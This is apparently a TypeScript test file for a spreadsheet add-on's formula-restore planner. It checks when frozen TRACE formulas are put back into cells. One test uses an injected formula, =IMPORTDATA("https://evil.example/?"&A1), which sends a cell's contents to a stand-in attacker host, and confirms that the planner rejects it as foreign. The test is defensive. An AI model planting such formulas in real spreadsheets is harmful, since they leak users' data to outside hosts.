import { toLine, toListRow } from '../../../shared/frozen/list-row';
import { planRestore } from '../../../shared/frozen/plan-restore';
import type { Block, SheetCells } from '../../../shared/frozen/sheet-cells';

const NO_FORMULAS = [
  ['', '', ''],
  ['', '', ''],
  ['', '', ''],
];
const LEADS: SheetCells = {
  id: '7',
  name: 'Leads',
  formulas: NO_FORMULAS,
  values: [
    ['a.com', 'US', ''],
    ['b.com', 'FR', 'x'],
    ['c.com', 'FR', 'y'],
  ],
};

const cell = (row: number, column = 1, rows = 1, columns = 1): Block => ({ row, column, rows, columns });
const line = (block: Block, formula = `=TRACE_COMPANY(A${block.row + 1},"country")`, sheet = LEADS) =>
  toLine(toListRow(sheet, block, formula, 0));
const withValues = (...values: SheetCells['values']): SheetCells => ({ ...LEADS, values });
const reasons = (lines: readonly (readonly string[])[], sheet: SheetCells = LEADS): unknown =>
  planRestore(lines, [sheet]).remaining.map(({ why, place }) => `${place} ${why}`);

it('puts a formula back where its cell still holds the frozen value', () => {
  const plan = planRestore([line(cell(0))], [LEADS]);
  expect(plan).toEqual({
    restore: [
      {
        ...{ sheet: '7', row: 0, column: 1, rows: 1, columns: 1 },
        ...{ formula: '=TRACE_COMPANY(A1,"country")', place: 'Leads!B1', line: line(cell(0)) },
      },
    ],
    remaining: [],
    over: [],
  });
});

it('puts a range formula back once, at its first cell', () => {
  const { restore } = planRestore([line(cell(1, 1, 2, 2), '=TRACE_COMPANY(A2:A3,"country, name")')], [LEADS]);
  expect(restore.map(({ row, column, rows, columns }) => [row, column, rows, columns])).toEqual([[1, 1, 2, 2]]);
});

it.each<[string, SheetCells]>([
  ['its value was edited', withValues(['a.com', 'US', ''], ['b.com', 'DE', 'x'], ['c.com', 'FR', 'y'])],
  [
    'another cell of its extent was edited',
    withValues(['a.com', 'US', ''], ['b.com', 'FR', 'x'], ['c.com', 'FR', 'z']),
  ],
  ['rows were sorted', withValues(['c.com', 'FR', 'y'], ['a.com', 'US', ''], ['b.com', 'FR', 'x'])],
  ['a row was inserted above', withValues(['', '', ''], ...LEADS.values)],
  ['rows were deleted', withValues(['a.com', 'US', ''], ['b.com', 'FR', 'x'])],
  [
    'a formula is in its extent',
    {
      ...LEADS,
      formulas: [
        ['', '', ''],
        ['', '', ''],
        ['', '', '=1+1'],
      ],
    },
  ],
])('a formula stays a value where %s', (_what, sheet) => {
  expect(reasons([line(cell(1, 1, 2, 2), '=TRACE_COMPANY(A2:A3,"country, name")')], sheet)).toEqual([
    'Leads!B2 changed',
  ]);
});

it('a sheet that was renamed is not followed', () => {
  expect(reasons([line(cell(0))], { ...LEADS, name: 'Customers' })).toEqual(['Leads!B1 sheetGone']);
});

it('a formula that someone else wrote into the list does not come back', () => {
  expect(reasons([line(cell(0), '=IMPORTDATA("https://evil.example/?"&A1)')])).toEqual(['Leads!B1 foreign']);
});

it('an unreadable row is named by its place in the list, and a blank one is ignored', () => {
  expect(reasons([['', '', '', '', '', ''], ['mine'], line(cell(0))])).toEqual(['Trace formulas!A3 unreadable']);
});

it('an extent of more than a million cells takes no time', () => {
  const [sheet, , ...rest] = line(cell(0));
  expect(reasons([[sheet!, 'B1:XFD1048576', ...rest]])).toEqual(['Trace formulas!A2 unreadable']);
});

it('of several formulas over the same cells, the latest is restored', () => {
  const lines = [line(cell(1, 1, 2, 1), '=TRACE_TECH(A2:A3)'), line(cell(2))];
  expect(planRestore(lines, [LEADS]).restore.map(({ place }) => place)).toEqual(['Leads!B3']);
  expect(reasons(lines)).toEqual(['Leads!B2 changed']);
});

it('an older line of the same cell is out of date', () => {
  const older = line(cell(0), '=TRACE_TECH(A1)');
  const { restore, remaining, over } = planRestore([older, line(cell(0))], [LEADS]);
  expect({ formulas: restore.map(({ formula }) => formula), remaining, over }).toEqual({
    formulas: ['=TRACE_COMPANY(A1,"country")'],
    remaining: [],
    over: [older],
  });
});

it('a formula that is in its cell already needs nothing', () => {
  const formulas = [['', '=TRACE_COMPANY(A1,"country")', ''], ...NO_FORMULAS.slice(1)];
  expect(planRestore([line(cell(0))], [{ ...LEADS, formulas }])).toEqual({
    restore: [],
    remaining: [],
    over: [line(cell(0))],
  });
});

it('a line that equals the one that stays is no older line: both are cleared by their texts', () => {
  const twice = [line(cell(0), '=TRACE_TECH(A1)&NOW()'), line(cell(0), '=TRACE_TECH(A1)&NOW()')];
  const { remaining, over } = planRestore(twice, [LEADS]);
  expect({ remaining, over }).toEqual({ remaining: [{ why: 'foreign', place: 'Leads!B1' }], over: [] });
});
